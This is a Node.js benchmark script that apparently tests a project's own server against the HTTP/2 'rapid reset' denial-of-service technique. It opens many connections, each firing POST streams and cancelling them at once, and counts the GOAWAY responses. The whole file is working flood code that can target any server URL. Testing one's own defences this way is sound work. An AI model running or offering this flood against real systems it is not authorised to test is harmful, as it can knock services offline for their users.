// The rapid-reset attacker of `node bench/run.mjs rapid-reset` (issue 33, finding 2), as a
// process of its own so its loop does not share an event loop with the client it disturbs:
// CONNECTIONS HTTP/2 connections, each sending (HEADERS, DATA, RST_STREAM) with a valid key as
// fast as it can for SECONDS. Each connection sends STREAMS_PER_CONNECTION streams and is
// replaced by a new one (an attacker reconnects once refused; node's client does not always
// notice a connection the server dropped while its own writes are queued, so the lane does
// not wait to be told). Prints one JSON line: streams sent, GOAWAYs seen (by error code),
// connections opened.
import { connect, constants } from 'node:http2';

const [url, key, path, connectionsArg, secondsArg] = process.argv.slice(2);
const connections = Number(connectionsArg);
const endAt = performance.now() + Number(secondsArg) * 1000;
const body = JSON.stringify({ message: 'hi' });
const STREAMS_PER_CONNECTION = 400;
const totals = { streams: 0, goaways: {}, connections_opened: 0, errors: 0 };

function attack() {
  return new Promise((resolve) => {
    totals.connections_opened += 1;
    const session = connect(url, { rejectUnauthorized: false });
    let open = true;
    const finish = () => {
      if (!open) return;
      open = false;
      session.destroy();
      resolve();
    };
    session.on('error', () => (totals.errors += 1));
    session.on('goaway', (code) => {
      totals.goaways[code] = (totals.goaways[code] ?? 0) + 1;
      finish();
    });
    session.on('close', finish);
    session.on('connect', () => {
      let sent = 0;
      const burst = () => {
        if (sent >= STREAMS_PER_CONNECTION) return finish();
        if (!open || session.destroyed || session.closed) return finish();
        if (performance.now() >= endAt) return finish();
        for (let i = 0; i < 20; i += 1) {
          let stream;
          try {
            stream = session.request({ ':method': 'POST', ':path': path, 'content-type': 'application/json', authorization: `Bearer ${key}` });
          } catch {
            return finish();
          }
          stream.on('error', () => undefined);
          stream.write(body);
          stream.close(constants.NGHTTP2_CANCEL);
          totals.streams += 1;
          sent += 1;
        }
        setImmediate(burst);
      };
      burst();
    });
  });
}

async function lane() {
  while (performance.now() < endAt) await attack();
}

await Promise.all(Array.from({ length: connections }, lane));
process.stdout.write(`${JSON.stringify(totals)}\n`);
